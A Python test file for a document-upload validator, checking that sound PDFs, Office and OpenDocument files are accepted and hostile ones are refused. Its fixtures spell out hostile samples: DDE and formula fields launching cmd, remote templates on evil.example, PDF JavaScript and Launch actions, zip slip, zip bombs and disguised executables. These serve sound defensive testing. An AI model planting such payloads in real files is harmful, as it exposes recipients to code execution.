"""Files from anybody: what is taken as a supporting paper, and what is hostile and is not."""

import io
import struct
import time
import zipfile
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image

from decisions.documents import looking, running, seen
from decisions.documents import zipped as limits
from decisions.documents.brought import KINDS, UnfitFileError, kind_of
from tests.pdfs import A_PDF as PDF
from tests.pdfs import a_pdf, a_stream, packed

WORD = (
    b'<Types><Override ContentType="application/vnd.openxmlformats-officedocument.'
    b'wordprocessingml.document.main+xml"/></Types>'
)
SHEET = WORD.replace(b"wordprocessingml.document", b"spreadsheetml.sheet")
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
IN_A_CHILD = running.looked_into


@pytest.fixture(autouse=True)
def looks_here(monkeypatch: pytest.MonkeyPatch) -> None:
    """Look into files here and not in a process for each, which takes a third of a second."""
    monkeypatch.setattr(running, "looked_into", looking.found_in)


PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00This program cannot be run in DOS mode."


def zipped(parts: dict[str, bytes], how: int = zipfile.ZIP_DEFLATED) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", how) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return held.getvalue()


def a_docx(**more: bytes) -> bytes:
    parts = {"[Content_Types].xml": WORD, "word/document.xml": b"<w/>"}
    return zipped(parts | {name.replace("__", "/"): data for name, data in more.items()})


def open_document(kind: str) -> bytes:
    media_type = f"application/vnd.oasis.opendocument.{kind}".encode()
    return zipped({"mimetype": media_type, "content.xml": b"<o/>"})


def picture(kind: str) -> bytes:
    held = io.BytesIO()
    Image.new("RGB", (2, 2)).save(held, kind)
    return held.getvalue()


SOUND = {
    "a.pdf": PDF,
    "A.DOCX": a_docx(),
    "a.xlsx": zipped({"[Content_Types].xml": SHEET, "xl/workbook.xml": b"<x/>"}),
    "a.odt": open_document("text"),
    "a.ods": open_document("spreadsheet"),
    "a.png": picture("PNG"),
    "a.jpg": picture("JPEG"),
    "a.csv": "Force,Sum\r\nMet,£570000\r\n".encode(),
    "a.txt": "Caf\xe9 in the old way".encode("cp1252"),
}


@pytest.mark.parametrize("name", SOUND)
def test_a_sound_file_is_taken_as_what_its_name_says(name: str) -> None:
    assert kind_of(name, SOUND[name]) is KINDS[f".{name.rpartition('.')[2].lower()}"]


def a_picture_of(wide: int, high: int) -> bytes:
    """Return a PNG that says of itself how large it is."""
    head = b"IHDR" + struct.pack(">IIBBBBB", wide, high, 8, 2, 0, 0, 0)
    chunks = [head, b"IEND"]
    body = [
        struct.pack(">I", len(one) - 4) + one + struct.pack(">I", zlib.crc32(one)) for one in chunks
    ]
    return b"\x89PNG\r\n\x1a\n" + b"".join(body)


def claiming_less(data: bytes) -> bytes:
    """Return a zip whose first part says that it is smaller than it is."""
    found = data.rindex(b"word/document.xml") - 46
    return data[: found + 24] + struct.pack("<I", 1) + data[found + 28 :]


HOSTILE = {
    "a program as PDF": ("a.pdf", PROGRAM),
    "a program as text": ("a.txt", PROGRAM),
    "a program as Word": ("a.docx", PROGRAM),
    "a web page as text": ("a.txt", b"\n <!DOCTYPE html><html><body>Hello</body></html>"),
    "a script as a table": ("a.csv", b"name\n<script>alert(1)</script>"),
    "a drawing as text": ("a.txt", SVG),
    "a drawing as a picture": ("a.png", SVG),
    "a drawing": ("a.svg", SVG),
    "a web page": ("a.html", b"<html>"),
    "a program": ("a.exe", PROGRAM),
    "no kind at all": ("a", PDF),
    "two endings": ("a.pdf.exe", PDF),
    "a PDF with a zip behind": ("a.pdf", PDF + a_docx()),
    "a PDF with a zip that ends like a PDF": (
        "a.pdf",
        PDF + a_docx()[:-2] + struct.pack("<H", 5) + b"%%EOF",
    ),
    "a zip behind a picture": ("a.png", picture("PNG") + a_docx()),
    "a picture with a program behind": ("a.jpg", picture("JPEG") + PROGRAM),
    "half a picture": ("a.png", picture("PNG")[:-6]),
    "a picture too large to show": ("a.png", a_picture_of(60_000, 60_000)),
    "a spreadsheet as Word": ("a.docx", SOUND["a.xlsx"]),
    "a spreadsheet as an OpenDocument text": ("a.odt", SOUND["a.ods"]),
    "a zip of anything": ("a.docx", zipped({"a.exe": PROGRAM})),
    "a Word file with macros": ("a.docx", a_docx(word__vbaProject=b"x")),
    "a Word file that unpacks outside": ("a.docx", zipped({"../a": b"", "word/document.xml": b""})),
    "a Word file with a program before it": ("a.docx", PROGRAM + a_docx()),
    "a Word file with something behind it": ("a.docx", a_docx() + PROGRAM),
    "a Word file that says it is small": ("a.docx", claiming_less(a_docx())),
    "more than can be kept": ("a.txt", b"a" * (limits.MOST_BYTES + 1)),
}


@pytest.mark.parametrize("what", HOSTILE)
def test_a_hostile_file_is_refused(what: str) -> None:
    name, data = HOSTILE[what]
    with pytest.raises(UnfitFileError):
        kind_of(name, data)


MACROS = zipped(
    {
        "[Content_Types].xml": WORD.replace(
            b"openxmlformats-officedocument.wordprocessingml.document", b"ms-word.macroEnabled"
        ),
        "word/document.xml": b"<w/>",
        "word/vbaProject.bin": b"x",
    }
)


@pytest.mark.parametrize("name", ["a.docm", "a.doc", "a.docx"])
def test_a_file_with_macros_is_refused_with_what_to_save_it_as(name: str) -> None:
    with pytest.raises(UnfitFileError, match=r"[Ss]ave .*\.docx.* or .*a PDF"):
        kind_of(name, MACROS)


@pytest.mark.parametrize("name", ["a.docx", "a.xlsx", "a.odt"])
def test_a_file_that_grows_without_measure_is_refused(
    name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(limits, "MOST_UNZIPPED", 100_000)
    sound = zipfile.ZipFile(io.BytesIO(SOUND.get(name) or a_docx()))
    parts = {one: sound.read(one) for one in sound.namelist()}
    with pytest.raises(UnfitFileError):
        kind_of(name, zipped(parts | {"bomb.xml": b"0" * 200_000}))


@given(st.sampled_from(sorted(SOUND)), st.integers(0, 10_000), st.binary(max_size=4))
def test_damage_is_taken_or_refused_and_never_a_fault(name: str, at: int, what: bytes) -> None:
    data = SOUND[name]
    place = at % len(data)
    try:
        kind_of(name, data[:place] + what + data[place + len(what) :])
    except UnfitFileError as unfit:
        assert "upload that" in str(unfit)  # noqa: PT017 - either way is well


def a_relationship(kind: str, target: str) -> bytes:
    return (
        f'<Relationships><Relationship Type="http://x/{kind}" Target="{target}"'
        ' TargetMode="External"/></Relationships>'
    ).encode()


SCRIPT = b"<</S/JavaScript/JS(app.alert(1))>>"
DECOY = a_stream(zlib.compress(b"1 0 0 1 0 0 cm"), b"/Filter/FlateDecode")
IN_PACK = zlib.compress(b"1 0 <</Type/Catalog/Pages 2 0 R/OpenAction" + SCRIPT + b">>")
PACK = b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode"


def a_pdf_with(name: bytes, kind: bytes, data: bytes, *more: bytes) -> bytes:
    entry = b"<</Type/Filespec/F(" + name + b")/EF<</F 5 0 R>>>>"
    return a_pdf(entry, a_stream(data, b"/Type/EmbeddedFile/Subtype/" + kind), *more)


def a_docx_linking(kind: str, target: str) -> bytes:
    return a_docx(**{"word___rels__document.xml.rels": a_relationship(kind, target)})


def a_sheet(formula: str) -> bytes:
    return zipped(
        {"[Content_Types].xml": SHEET, "xl/workbook.xml": b"<x/>",
         "xl/worksheets/sheet1.xml": f"<c><f>{formula}</f></c>".encode()}
    )  # fmt: skip


UTF_16 = '<?xml version="1.0" encoding="UTF-16"?>' + a_relationship("frame", "http://x").decode()
DDE = b'<w><w:instrText> DDE</w:instrText><w:instrText>AUTO cmd "/C calc"</w:instrText></w>'
RUNNING = {
    "macros": ("a.docx", a_docx(**{"word__vbaProject.bin": b"x"}), "macros"),
    "old macros": (
        "a.xlsx",
        zipped({"[Content_Types].xml": SHEET, "xl/workbook.xml": b"<x/>",
                "xl/macrosheets/sheet1.xml": b"<x/>"}),
        "macros",
    ),
    "an object": ("a.docx", a_docx(**{"word__embeddings__oleObject1.bin": b"x"}), "object"),
    "a program in a sheet in a paper": (
        "a.docx",
        a_docx(**{"word__embeddings__a.xlsx": zipped({"xl/vbaProject.bin": b"x"})}),
        "macros",
    ),
    "a field": ("a.docx", a_docx(**{"word__header1.xml": DDE}), "DDE"),
    "a template of the web": (
        "a.docx",
        a_docx(**{"word___rels__settings.xml.rels":
                  a_relationship("attachedTemplate", "http://evil.example/t.dotm")}),
        "link",
    ),
    "a script in a text": (
        "a.odt",
        zipped({"mimetype": b"application/vnd.oasis.opendocument.text",
                "content.xml": b"<o><script:event-listener/></o>"}),
        "macros",
    ),
    "a template of a share": (
        "a.docx",
        a_docx_linking("attachedTemplate", "file://evil.example/share/t.dotm"),
        "link",
    ),
    "a template of another's share": (
        "a.docx",
        a_docx_linking("attachedTemplate", "\\\\evil.example\\share\\t.dotm"),
        "link",
    ),
    "a template spelt otherwise": (
        "a.docx",
        a_docx_linking("attachedTemplate", "&#104;ttps://evil.example/t.dotm"),
        "link",
    ),
    "a picture of the web": ("a.docx", a_docx_linking("image", "http://evil.example/p"), "link"),
    "a book elsewhere": ("a.docx", a_docx_linking("externalLinkPath", "file://x/a.xlsx"), "link"),
    "a link with a sign in it": ("a.docx", a_docx_linking("a>b/frame", "http://x/"), "link"),
    "a link after much": (
        "a.docx",
        a_docx(**{"word___rels__document.xml.rels": b"<R>%b%b</R>" % (
            b" " * 12 * 1024 * 1024, a_relationship("frame", "http://x"))}),
        "link",
    ),
    "links in another writing": (
        "a.docx",
        a_docx(**{"word___rels__document.xml.rels": UTF_16.encode("utf-16")}),
        "objects",
    ),
    "a field in single quotes": (
        "a.docx",
        a_docx(**{"word__header1.xml": b"<w:fldSimple w:instr='DDEAUTO x'/>"}),
        "DDE",
    ),
    "a field spelt otherwise": (
        "a.docx",
        a_docx(**{"word__header1.xml": b"<w:instrText>D&#68;E x</w:instrText>"}),
        "DDE",
    ),
    "a field in numbers": (
        "a.docx",
        a_docx(**{"word__header1.xml": b"<w:instrText> QUOTE 68 68 69</w:instrText>"}),
        "DDE",
    ),
    "a field named by fields": (
        "a.docx",
        a_docx(**{"word__header1.xml": b"<w><w:fldChar w:fldCharType='begin'/><w:instrText>D"
                  b"</w:instrText><w:fldChar w:fldCharType='begin'/></w>"}),
        "DDE",
    ),
    "a formula": ("a.xlsx", a_sheet("cmd|'/C calc'!A0"), "DDE"),
    "a formula of the web": ("a.xlsx", a_sheet('_xlfn.WEBSERVICE("http://x")'), "link"),
    "a picture of the web in a text": (
        "a.odt",
        zipped({"mimetype": b"application/vnd.oasis.opendocument.text",
                "content.xml": b"<o><draw:image xlink:href='http://x/p.png'/></o>"}),
        "link",
    ),
    "a drawing of the web": (
        "a.docx",
        a_docx(**{"word__drawings__d.vml":
                  b"<xml><br><v:imagedata src='http://evil.example/a.png'/></xml>"}),
        "link",
    ),
    "a script in a drawing": ("a.docx", a_docx(**{"word__media__a.svg": SVG}), "macros"),
    "a script in a drawing's sign": (
        "a.docx", a_docx(**{"word__media__a.svg": b"<svg><rect onload='x()'/></svg>"}), "macros",
    ),
    "a field in a part of any name": (
        "a.docx",
        a_docx(**{"word__a.dat": b"\xef\xbb\xbf <w:instrText>DDE x</w:instrText>"}),
        "DDE",
    ),
    "data asked for at once": (
        "a.xlsx",
        zipped({"[Content_Types].xml": SHEET, "xl/workbook.xml": b"<x/>",
                "xl/connections.xml": b"<c><connection refreshOnLoad='1'><webPr url='http://x'/>"
                                      b"</connection></c>"}),
        "link",
    ),
    "letters to a list elsewhere": (
        "a.docx",
        a_docx(**{"word__settings.xml": b"<w:connectString w:val='Provider=x'/>"}),
        "link",
    ),
    "a picture of the web in a part of any name": (
        "a.odt",
        zipped({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<o/>",
                "a": b"<o><draw:image xlink:href='http://x/p.png'/></o>"}),
        "link",
    ),
    "a declaration of its own words": (
        "a.docx",
        a_docx(**{"word__a.xml": b"<!DOCTYPE a [<!ENTITY b 'DDE'>]><a>&b;</a>"}),
        "objects",
    ),
    "a script in a PDF": ("a.pdf", a_pdf(SCRIPT), "script"),
    "a script spelt otherwise": ("a.pdf", a_pdf(b"<</S/J#61vaScript>>"), "script"),
    "a script in a pack": ("a.pdf", packed(IN_PACK, b"/FlateDecode"), "script"),
    "a script in a pack of packs": (
        "a.pdf",
        packed(IN_PACK.hex().encode() + b">", b"[/ASCIIHexDecode/FlateDecode]"),
        "script",
    ),
    "a pack that the table does not name": (
        "a.pdf",
        a_pdf(DECOY, before=b"9 0 obj\n" + PACK + b">>stream\n\nendstream\nendobj\n"),
        "objects",
    ),
    "a PDF that needs mending": ("a.pdf", PDF.replace(b"startxref\n", b"startxref\n9"), "objects"),
    "a PDF with a password": ("a.pdf", a_pdf(b"<</Encrypt 1 0 R>>"), "password"),
    "a program in a PDF": (
        "a.pdf",
        a_pdf_with(b"a.exe", b"application#2Foctet-stream", PROGRAM, b"<</Subtype/text#2Fplain>>"),
        "file within",
    ),
    "a program that says it is words": (
        "a.pdf",
        a_pdf_with(b"a.txt", b"text#2Fplain", PROGRAM),
        "file within",
    ),
    "a file that no entry names": (
        "a.pdf",
        a_pdf(a_stream(b"{}", b"/Type/EmbeddedFile")),
        "file within",
    ),
    "a page of the web at once": (
        "a.pdf",
        a_pdf(catalog=b"/OpenAction<</S/URI/URI(http://x)>>"),
        "link",
    ),
    "a start of a program": ("a.pdf", a_pdf(b"<</S/Launch/F(cmd.exe)>>"), "command"),
}  # fmt: skip


@pytest.mark.parametrize("what", RUNNING)
def test_a_file_that_would_run_is_refused_and_says_what_to_do(what: str) -> None:
    name, data, holds = RUNNING[what]
    with pytest.raises(UnfitFileError, match=f"holds .*{holds}.* upload that"):
        kind_of(name, data)


ORDINARY = {
    "a chart of a sheet": a_docx(**{"word__embeddings__a.xlsx": SOUND["a.xlsx"]}),
    "an office's own template": a_docx(
        **{
            "word___rels__settings.xml.rels": a_relationship(
                "attachedTemplate", "file:///C:/n.dotm"
            )
        }
    ),
    "data asked for when somebody asks": a_docx(
        **{"xl__connections.xml": b"<c><connection refreshOnLoad='0'><webPr/></connection></c>"}
    ),
    "a comment of a sheet": a_docx(
        **{"xl__drawings__d.vml": b"<xml><v:shape><div>One<br>two</div></v:shape></xml>"}
    ),
    "a plain drawing": a_docx(**{"word__media__a.svg": b"<svg><image href='#a'/></svg>"}),
    "a link to a page": a_docx(
        **{"word___rels__document.xml.rels": a_relationship("hyperlink", "https://example.org")}
    ),
}


@pytest.mark.parametrize("what", ORDINARY)
def test_what_is_ordinary_in_an_office_file_is_taken(what: str) -> None:
    assert kind_of("a.docx", ORDINARY[what]).media_type.endswith("document")


def test_a_pdf_with_data_within_it_is_taken_as_our_own_are() -> None:
    data = a_pdf_with(b"a.json", b"application#2Fjson", b'{"a": "<script>"}')
    assert kind_of("a.pdf", data) is KINDS[".pdf"]


@pytest.mark.parametrize("name", ["docProps/a.txt", "%PDF-1.4"])
def test_an_office_file_that_is_a_pdf_too_is_refused(name: str) -> None:
    parts = {name: b"%PDF-1.4 ", "[Content_Types].xml": WORD, "word/document.xml": b"<w/>"}
    with pytest.raises(UnfitFileError, match="two kinds at once"):
        kind_of("a.docx", zipped(parts, zipfile.ZIP_STORED))


SLOW = {
    "fields": a_docx(**{"a.xml": b"instrText" * 40_000}),
    "links": a_docx(**{"a.rels": b"<" + b" TargetMode='External'" * 8_000}),
    "values": a_docx(**{"a.rels": b"<a TargetMode='External' Type='" * 20_000}),
    "blanks": a_docx(**{"a.xml": b"<instrText>" + b"\n" * 400_000 + b"</instrText>"}),
    "streams": a_pdf(before=b"%" + b"stream\n" * 80_000),
}


@pytest.mark.parametrize("what", SLOW)
def test_a_file_made_to_be_slow_is_not(what: str) -> None:
    began = time.process_time()
    running.unfit(SLOW[what])
    assert time.process_time() - began < 2


def test_a_file_is_looked_into_by_a_child_with_little_time(monkeypatch: pytest.MonkeyPatch) -> None:
    assert IN_A_CHILD(packed(IN_PACK, b"/FlateDecode")) == "a script"
    monkeypatch.setattr(running, "LONGEST_LOOK", 0.001)
    assert IN_A_CHILD(PDF) == seen.UNSEEN
